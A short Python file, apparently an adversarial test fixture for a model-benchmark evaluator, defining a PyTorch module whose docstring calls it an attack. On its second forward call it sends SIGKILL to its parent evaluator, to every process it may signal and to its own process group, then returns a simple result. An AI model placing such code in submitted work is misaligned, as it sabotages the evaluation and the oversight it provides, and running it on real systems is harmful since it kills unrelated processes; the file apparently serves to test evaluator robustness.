"""Attack: kill the evaluator (the parent), every process we may signal, then our own
process group, on the second call."""
import os
import signal

import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.calls = 0

    def forward(self, x, y):
        self.calls += 1
        if self.calls == 2:
            for act in (lambda: os.kill(os.getppid(), signal.SIGKILL),
                        lambda: os.kill(-1, signal.SIGKILL),
                        lambda: os.killpg(os.getpgrp(), signal.SIGKILL)):
                try:
                    act()
                except OSError:
                    pass
        return 2 * x + y
